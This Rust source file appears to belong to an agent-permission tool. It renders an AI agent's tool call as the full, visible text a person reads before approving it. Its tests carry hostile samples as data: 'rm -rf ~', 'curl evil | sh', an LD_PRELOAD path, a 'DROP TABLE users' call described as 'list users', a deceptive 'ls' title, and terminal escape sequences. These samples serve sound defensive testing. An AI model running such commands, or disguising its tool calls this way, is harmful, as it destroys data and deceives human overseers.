//! What a person reads of a request for permission: one function from the whole tool call to the text that
//! card, command line, notification and terminal agents show.
//!
//! Promise: all that the tool gets is in the text, each field on a line of its own, nothing invisible; what
//! is too long is cut at the end, and how many bytes are missing is said and counted.
//! Must not know: how a call came to be known, who answers.

use nightshift_model::counted::{are, counted};
use nightshift_model::limits::LINE_MAX_CHARS;
use nightshift_model::naming::{clip, decision_line};
use nightshift_model::shell;
use nightshift_model::visible::visible;
use serde_json::{Map, Value};

/// Longest text to read before an answer. Rows carry it, and a person who reads more than a thousand lines
/// opens the file.
const DETAIL_MAX_BYTES: usize = 64 * 1024;
/// Fields that are a command, the first of them what runs.
const COMMANDS: [&str; 2] = ["command", "cmd"];
/// Fields that name what a tool works on, the most telling first. A description is the model's words: it
/// never stands for what is done.
const OBJECTS: [&str; 8] =
    ["file_path", "filePath", "path", "absolute_path", "abs_path", "url", "query", "pattern"];
/// Fields that say nothing of what is done, and come last.
const ASIDES: [&str; 10] = [
    "description",
    "justification",
    "reason",
    "call_id",
    "callId",
    "turn_id",
    "turnId",
    "approval_id",
    "parsed_cmd",
    "parsedCmd",
];
/// Fields of a call that are read in their own way, say how it goes on, or are for programs (`_meta`). Any other is
/// shown as it stands.
const READ: [&str; 10] = [
    "title",
    "kind",
    "rawInput",
    "locations",
    "content",
    "_meta",
    "toolCallId",
    "sessionUpdate",
    "status",
    "rawOutput",
];
/// Programs whose `-c` takes a command line, where they are expected.
const SHELLS: [&str; 4] = ["sh", "bash", "dash", "zsh"];
const SHELL_DIRECTORIES: [&str; 3] = ["", "/bin/", "/usr/bin/"];
/// Files that a question has room for.
const FILES_MAX: usize = 16;
/// Objects below this depth are written as JSON.
const FLAT_DEPTH: usize = 2;

/// A request as it is read.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Shown {
    /// One line; what it has no room for is in `detail`.
    pub question: String,
    pub detail: String,
    pub unshown_bytes: u32,
    /// What it is about cannot be told exactly: nothing of it is allowed for good.
    pub once_only: bool,
}

impl Shown {
    /// More that belongs to the request, on lines of its own.
    pub fn and(self, more: &str) -> Shown {
        let unshown = usize::try_from(self.unshown_bytes).unwrap_or(usize::MAX);
        match (more.is_empty(), self.unshown_bytes) {
            (true, _) => self,
            (false, 0) => {
                let once_only = self.once_only;
                Shown { once_only, ..bounded(self.question, &joined(&[&self.detail, more]), 0) }
            }
            (false, _) => {
                Shown { unshown_bytes: count(unshown.saturating_add(more.len())), ..self }
            }
        }
    }

    /// Names do not agree in it, which is read before all else; allowed once is all that it can be.
    #[must_use]
    pub fn but(self, why: &str) -> Shown {
        let question = decision_line(&format!("{} (but {why})", self.question), LINE_MAX_CHARS);
        let detail = joined(&[&format!("! {}", visible(why)), &self.detail]);
        Shown { question, detail, once_only: true, ..self }
    }
}

/// What a tool call would do. `call` is all that was told of it (`title`, `kind`, `rawInput`, `locations`,
/// `content`), `tool` the vendor's own name for the tool, `lost_bytes` what was told and not kept.
pub fn shown(call: &Value, tool: Option<&str>, lost_bytes: usize) -> Shown {
    let title = call["title"].as_str().unwrap_or_default().trim();
    let mut input = Input::of(&call["rawInput"]);
    input.object = input.object.or_else(|| files(call));
    let question = question(call["kind"].as_str().unwrap_or_default(), title, &input);
    let mut text = Text { said: question, text: input.text, over: lost_bytes };
    if let Some(tool) = tool {
        text.add(tool, |tool| format!("tool: {tool}"));
    }
    text.add(title.trim_matches('`'), |title| format!("the agent's title: {title}"));
    for location in list(&call["locations"]) {
        text.add(&place(location), |place| format!("location: {place}"));
    }
    for part in list(&call["content"]) {
        text.add(&content(part), str::to_owned);
    }
    for (name, value) in call.as_object().into_iter().flatten() {
        if !READ.contains(&name.as_str()) && !value.is_null() {
            text.add(&one_line(value), |value| format!("{}: {value}", key(name)));
        }
    }
    let Text { said: question, text, over } = text;
    if text.is_empty() && title.is_empty() && tool.is_none() && over == 0 {
        let detail = "… the agent did not say what it would do".to_owned();
        return Shown { question, detail, unshown_bytes: 1, once_only: false };
    }
    bounded(question, &text, over)
}

/// The files that a call names where its input does not begin with one. All of them are in the text.
fn files(call: &Value) -> Option<String> {
    let changes = call["rawInput"]["changes"].as_object().into_iter().flat_map(Map::keys);
    let parts = list(&call["content"]).iter().filter(|part| part["type"] == "diff");
    let places = parts.chain(list(&call["locations"])).filter_map(|part| part["path"].as_str());
    let mut named: Vec<&str> = Vec::new();
    for path in changes.map(String::as_str).chain(places).take(FILES_MAX) {
        if !named.contains(&path) {
            named.push(path);
        }
    }
    (!named.is_empty()).then(|| named.join(", "))
}

/// The text while it is put together.
struct Text {
    /// The question, which is read too.
    said: String,
    text: String,
    /// Bytes that are left out.
    over: usize,
}

impl Text {
    /// Adds `what`, in the words of `line`, unless it can be read already. Far beyond the limit it is only
    /// counted, so that a hostile call costs no more than its length.
    fn add(&mut self, what: &str, line: impl Fn(&str) -> String) {
        if self.text.len() > DETAIL_MAX_BYTES {
            self.over = self.over.saturating_add(what.len());
        } else if !what.trim().is_empty() && !self.said.contains(what) && !self.text.contains(what)
        {
            self.text = joined(&[&self.text, &line(what)]);
        }
    }
}

/// Any words to be read before an answer, with the same limit and the same marks.
pub fn plain(question: &str, detail: &str) -> Shown {
    let whole = visible(question).into_owned();
    let line = decision_line(question, LINE_MAX_CHARS);
    // A question that is more than a line is read whole.
    match whole.trim() == line {
        true => bounded(line, detail, 0),
        false => bounded(line, &joined(&[question.trim(), detail]), 0),
    }
}

fn bounded(question: String, text: &str, lost_bytes: usize) -> Shown {
    let mut raw = clip(text, DETAIL_MAX_BYTES);
    let mut seen = visible(raw);
    // What is written by number takes more room than it had; its own bytes are counted.
    while seen.len() > DETAIL_MAX_BYTES {
        raw = clip(raw, raw.len() * DETAIL_MAX_BYTES / seen.len());
        seen = visible(raw);
    }
    let unshown = lost_bytes.saturating_add(text.len() - raw.len());
    let detail = match unshown {
        0 => seen.into_owned(),
        bytes => {
            joined(&[&seen, &format!("… {} {} not shown", counted(bytes, "byte"), are(bytes))])
        }
    };
    Shown { question, detail, unshown_bytes: count(unshown), once_only: false }
}

fn count(bytes: usize) -> u32 {
    u32::try_from(bytes).unwrap_or(u32::MAX)
}

fn joined(parts: &[&str]) -> String {
    let said = parts.iter().copied().filter(|part| !part.is_empty());
    said.collect::<Vec<_>>().join("\n")
}

fn list(value: &Value) -> &[Value] {
    value.as_array().map(Vec::as_slice).unwrap_or_default()
}

fn question(kind: &str, title: &str, input: &Input) -> String {
    let verb = match kind {
        "execute" => "Run",
        "edit" => "Edit",
        "delete" => "Delete",
        "move" => "Move",
        "read" => "Read",
        "search" => "Search",
        "fetch" => "Fetch",
        _ => "",
    };
    let title = title.trim_matches('`').trim();
    let object = input.object.as_deref().unwrap_or_default().trim();
    let subject = if verb.is_empty() || object.is_empty() { title } else { object };
    let line = match (verb, subject) {
        ("", "") => "Use a tool".to_owned(),
        ("", subject) => subject.to_owned(),
        (verb, "") => verb.to_owned(),
        // A title such as "Run cargo test" says the verb itself.
        (verb, subject) if object.is_empty() && subject.starts_with(verb) => subject.to_owned(),
        (verb, subject) => format!("{verb}: {subject}"),
    };
    decision_line(&line, LINE_MAX_CHARS)
}

/// What a tool gets, as text.
struct Input {
    /// What the question names: the command, the file, the address.
    object: Option<String>,
    text: String,
}

impl Input {
    fn of(raw: &Value) -> Input {
        match raw {
            Value::Null => Input { object: None, text: String::new() },
            Value::Object(fields) => Input::of_fields(fields),
            Value::String(text) => Input { object: Some(text.clone()), text: text.clone() },
            other => Input { object: None, text: format!("input: {other}") },
        }
    }

    fn of_fields(fields: &Map<String, Value>) -> Input {
        let line = |key: &&'static str| Some((*key, command_line(fields.get(*key)?)?));
        let command = COMMANDS.iter().find_map(line);
        let mut parts = Vec::new();
        if let Some((_, command)) = &command {
            parts.push(command.line.clone());
            parts.extend(command.shell.iter().map(|shell| format!("shell: {shell}")));
        }
        let taken = command.as_ref().map(|(key, _)| *key);
        let others = fields.iter().filter(|(name, _)| Some(name.as_str()) != taken);
        let (asides, first): (Vec<_>, Vec<_>) =
            others.partition(|(name, _)| ASIDES.contains(&name.as_str()));
        for (name, value) in first.into_iter().chain(asides) {
            field(&key(name), value, FLAT_DEPTH, &mut parts);
        }
        let named = || OBJECTS.iter().find_map(|key| fields.get(*key)?.as_str().map(str::to_owned));
        let object = command.map(|(_, command)| command.line).or_else(named);
        Input { object, text: parts.join("\n") }
    }
}

/// A command as a person would type it.
pub struct CommandLine {
    pub line: String,
    /// The shell that reads the line, where that was told.
    pub shell: Option<String>,
}

/// A command line, or an argv: quoted words, unless it is exactly a shell with a line to read.
pub fn command_line(value: &Value) -> Option<CommandLine> {
    match value {
        Value::String(line) if !line.trim().is_empty() => {
            Some(CommandLine { line: line.clone(), shell: None })
        }
        Value::Array(items) if !items.is_empty() => {
            let words: Option<Vec<&str>> = items.iter().map(Value::as_str).collect();
            let words = words?;
            if let [shell, flag @ ("-c" | "-lc"), line] = words.as_slice()
                && is_shell(shell)
                && !line.trim().is_empty()
            {
                let (line, shell) = ((*line).to_owned(), Some(format!("{shell} {flag}")));
                return Some(CommandLine { line, shell });
            }
            let line = words.into_iter().map(shell::word).collect::<Vec<_>>().join(" ");
            Some(CommandLine { line, shell: None })
        }
        _ => None,
    }
}

fn is_shell(program: &str) -> bool {
    SHELL_DIRECTORIES
        .iter()
        .any(|directory| program.strip_prefix(directory).is_some_and(|name| SHELLS.contains(&name)))
}

/// One field on a line of its own; a text of several lines begins below its name.
fn field(name: &str, value: &Value, depth: usize, out: &mut Vec<String>) {
    match value {
        Value::String(text) if text.contains('\n') => {
            let lines = text.lines().count();
            out.push(format!("{name}: ({})\n{text}", counted(lines, "line")));
        }
        Value::String(text) => out.push(format!("{name}: {text}")),
        Value::Object(fields) if depth > 0 && !fields.is_empty() => {
            for (inner, value) in fields {
                field(&format!("{name}.{}", key(inner)), value, depth - 1, out);
            }
        }
        other => out.push(format!("{name}: {other}")),
    }
}

fn one_line(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

/// A name that could be read as something else is quoted.
fn key(name: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-".contains(c);
    match !name.is_empty() && name.chars().all(plain) {
        true => name.to_owned(),
        false => Value::from(name).to_string(),
    }
}

fn place(location: &Value) -> String {
    match (location["path"].as_str(), location["line"].as_u64()) {
        (Some(path), Some(line)) => format!("{path}:{line}"),
        (Some(path), None) => path.to_owned(),
        (None, _) => location.to_string(),
    }
}

fn content(part: &Value) -> String {
    let inner = &part["content"];
    match (part["type"].as_str(), inner["type"].as_str()) {
        (Some("diff"), _) if part["path"].is_string() && part["newText"].is_string() => {
            let text = |key: &str| part[key].as_str().unwrap_or_default();
            diff(text("path"), part["oldText"].as_str(), text("newText"))
        }
        (Some("content"), Some("text")) if inner["text"].is_string() => {
            inner["text"].as_str().unwrap_or_default().to_owned()
        }
        _ => part.to_string(),
    }
}

/// A diff as text: every old line, then every new one. The window draws the real one.
pub fn diff(path: &str, old: Option<&str>, new: &str) -> String {
    let mut text = path.to_owned();
    for (sign, side) in [('-', old.unwrap_or_default()), ('+', new)] {
        for line in side.split_inclusive('\n') {
            text.push('\n');
            text.push(sign);
            text.push_str(line.strip_suffix('\n').unwrap_or(line));
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn read(call: Value) -> (String, String) {
        let shown = shown(&call, None, 0);
        assert_eq!(shown.unshown_bytes, 0, "{call}");
        (shown.question, shown.detail)
    }

    #[test]
    fn a_permission_reads_as_one_line() {
        for (call, expected) in [
            (
                json!({"kind": "execute", "title": "`make`", "rawInput": {"command": "make\nx"}}),
                "Run: make‹U+000A›x",
            ),
            (
                json!({"kind": "execute", "rawInput": {"command": ["bash", "-lc", "ls -l"]}}),
                "Run: ls -l",
            ),
            (
                json!({"kind": "edit", "title": "Write a.txt", "rawInput": {"file_path": "/w/a.txt"}}),
                "Edit: /w/a.txt",
            ),
            (
                json!({"title": "CronList (nightshift MCP Server)"}),
                "CronList (nightshift MCP Server)",
            ),
            (json!({"kind": "edit", "title": "Edit a.txt"}), "Edit a.txt"),
            (json!({"kind": "execute", "rawInput": {"description": "harmless"}}), "Run"),
            (json!({"title": "evil\u{1b}[2J"}), "evil‹U+001B›[2J"),
        ] {
            assert_eq!(read(call.clone()).0, expected, "{call}");
        }
    }

    #[test]
    fn security_04_a_command_stands_first_and_every_other_field_after_it() {
        let (question, detail) = read(json!({"kind": "execute", "title": "npm test", "rawInput": {
            "command": "npm test", "cwd": "/etc", "env": {"LD_PRELOAD": "/tmp/e.so", "A": {"b": "c"}},
            "stdin": "one\ntwo", "cmd": "rm -rf ~", "dangerouslyDisableSandbox": true,
            "description": "runs the tests", "list": ["a", {"b": null}], "odd name.x": 1}}));
        assert_eq!(question, "Run: npm test");
        // Fields keep the agent's order, or have that of their names: no promise of ours.
        assert!(detail.starts_with("npm test\n"), "{detail}");
        assert!(detail.ends_with("\ndescription: runs the tests"), "{detail}");
        for line in [
            "cmd: rm -rf ~",
            "cwd: /etc",
            "dangerouslyDisableSandbox: true",
            "env.A.b: c",
            "env.LD_PRELOAD: /tmp/e.so",
            "list: [\"a\",{\"b\":null}]",
            "\"odd name.x\": 1",
            "stdin: (2 lines)\none\ntwo",
        ] {
            assert!(detail.contains(&format!("\n{line}\n")), "{line} is not in {detail}");
        }
    }

    #[test]
    fn security_04_words_are_quoted_unless_a_known_shell_reads_a_line() {
        for (argv, line, shell) in [
            (json!(["bash", "-lc", "ls -l"]), "ls -l", Some("bash -lc")),
            (json!(["/usr/bin/bash", "-c", "a && b"]), "a && b", Some("/usr/bin/bash -c")),
            (json!(["/tmp/evil", "-c", "ls -l"]), "/tmp/evil -c 'ls -l'", None),
            (json!(["./sh", "-c", "ls"]), "./sh -c ls", None),
            (json!(["/tmp/bash", "-lc", "ls"]), "/tmp/bash -lc ls", None),
            (json!(["bash ", "-c", "ls"]), "'bash ' -c ls", None),
            (json!(["bash", "-c", "ls", "extra"]), "bash -c ls extra", None),
            (json!(["bash", "-x", "-c", "ls"]), "bash -x -c ls", None),
            (json!(["env", "bash", "-c", "ls"]), "env bash -c ls", None),
            (json!(["rm", "a b", "it's", ""]), r"rm 'a b' 'it'\''s' ''", None),
        ] {
            let read = command_line(&argv).unwrap();
            assert_eq!((read.line.as_str(), read.shell.as_deref()), (line, shell), "{argv}");
        }
        for none in [json!([]), json!(["ls", 1]), json!({}), json!(" "), json!(null)] {
            assert!(command_line(&none).is_none(), "{none}");
        }
        let (_, detail) =
            read(json!({"kind": "execute", "rawInput": {"command": ["ls", {"a": 1}]}}));
        assert_eq!(detail, r#"command: ["ls",{"a":1}]"#);
    }

    #[test]
    fn security_04_a_server_s_tool_shows_all_it_gets_and_a_title_is_the_agent_s() {
        let (question, detail) = read(json!({"title": "mcp__db__exec", "kind": "other",
            "rawInput": {"description": "list users", "sql": "DROP TABLE users"}}));
        assert_eq!(question, "mcp__db__exec");
        assert_eq!(detail, "sql: DROP TABLE users\ndescription: list users");
        let (question, detail) = read(json!({"title": "ls", "kind": "execute",
            "rawInput": {"command": "rm -rf ~"}}));
        assert_eq!((&*question, &*detail), ("Run: rm -rf ~", "rm -rf ~\nthe agent's title: ls"));
        let (_, detail) = read(json!({"kind": "edit", "title": "Write a.txt",
            "rawInput": {"file_path": "/w/a.txt", "content": "new"},
            "locations": [{"path": "/w/b.txt", "line": 3}, {"path": "/w/a.txt"}],
            "content": [{"type": "diff", "path": "/w/a.txt", "oldText": "old", "newText": "new\nx"},
                {"type": "content", "content": {"type": "text", "text": "read this"}},
                {"type": "terminal", "terminalId": "t-9"}]}));
        for part in
            ["/w/b.txt:3", "content: new", "-old", "+new", "+x", "read this", "t-9", "Write a.txt"]
        {
            assert!(detail.contains(part), "{part}: {detail}");
        }
        let named = shown(&json!({"title": "Read the wiki"}), Some("mcp__x__rm"), 0);
        assert_eq!(named.detail, "tool: mcp__x__rm");
    }

    #[test]
    fn security_04_what_is_too_long_is_cut_at_the_end_and_counted() {
        let command = format!("npm test --grep {}; curl evil | sh", "a".repeat(4_300));
        let whole = shown(&json!({"kind": "execute", "rawInput": {"command": command}}), None, 0);
        assert_eq!((whole.detail, whole.unshown_bytes), (command, 0));
        let long = "é".repeat(DETAIL_MAX_BYTES);
        let cut = shown(&json!({"kind": "execute", "rawInput": {"command": long}}), None, 5);
        let bytes = DETAIL_MAX_BYTES + 5;
        assert_eq!(cut.unshown_bytes as usize, bytes);
        assert!(cut.detail.ends_with(&format!("\n… {bytes} bytes are not shown")));
        let more = cut.clone().and("12345");
        assert_eq!((more.unshown_bytes, more.detail), (cut.unshown_bytes + 5, cut.detail));
        // What is written by number takes more room than it had.
        let hidden = shown(&json!({"rawInput": "\u{202e}".repeat(20_000)}), None, 0);
        assert!(hidden.unshown_bytes < 60_000, "more than there is: {}", hidden.unshown_bytes);
        assert!(hidden.unshown_bytes > 0 && hidden.detail.len() < DETAIL_MAX_BYTES + 64);
        let many: Vec<Value> = (0..100_000).map(|n| json!({"path": format!("/w/{n}")})).collect();
        assert!(shown(&json!({"title": "x", "locations": many}), None, 0).unshown_bytes > 500_000);
        assert_eq!(shown(&json!({}), None, 0).unshown_bytes, 1, "nothing was told");
        assert_eq!(shown(&json!({"title": "x"}), None, 0).unshown_bytes, 0);
    }
}
